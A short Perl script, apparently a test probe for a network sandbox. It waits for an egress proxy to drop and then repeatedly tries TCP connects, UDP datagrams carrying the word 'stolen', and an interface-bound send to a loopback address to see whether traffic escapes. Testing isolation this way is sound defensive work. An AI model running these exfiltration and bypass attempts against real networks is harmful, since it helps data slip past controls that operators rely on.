# Waits until the proxy is gone, and tries ways out until it is back: by TCP and UDP to ADDRESS at PORT and the next,
# to loopback by the device, and to the ports of the proxy itself. Says how often.
#   gap.pl ADDRESS PORT LINK-LOCAL-ADDRESS INTERFACE
use strict;
use warnings;
use Socket;

my ($address, $port, undef, $interface) = @ARGV;
my $deadline = time + 90;

sub proxy {
    socket my $socket, AF_INET, SOCK_STREAM, 0 or die "socket: $!";
    return connect $socket, pack_sockaddr_in(14322, inet_aton('127.0.0.1'));
}

sub pause { select undef, undef, undef, 0.01; die "nothing happened" if time > $deadline }

open my $ready, '>', '/tmp/attack-ready' or die "/tmp/attack-ready: $!";
pause() while proxy();
print "the proxy is gone\n";
my ($tried, $reached) = (0, 0);
until (proxy()) {
    pause();
    $tried++;
    socket my $stream, AF_INET, SOCK_STREAM | 0x800, 0 or die "socket: $!";
    connect $stream, pack_sockaddr_in($port, inet_aton($address));
    socket my $datagram, AF_INET, SOCK_DGRAM, 0 or die "socket: $!";
    send $datagram, 'stolen', 0, pack_sockaddr_in($port + 1, inet_aton($address));
    socket my $bound, AF_INET, SOCK_DGRAM, 0 or die "socket: $!";
    setsockopt $bound, SOL_SOCKET, 25, $interface;
    send $bound, 'stolen', 0, pack_sockaddr_in($port + 2, inet_aton('127.9.9.9'));
}
print "tried $tried\n", "tcp tried\n", "udp tried\n", "udp_to_loopback tried\n", "the proxy is back\n";
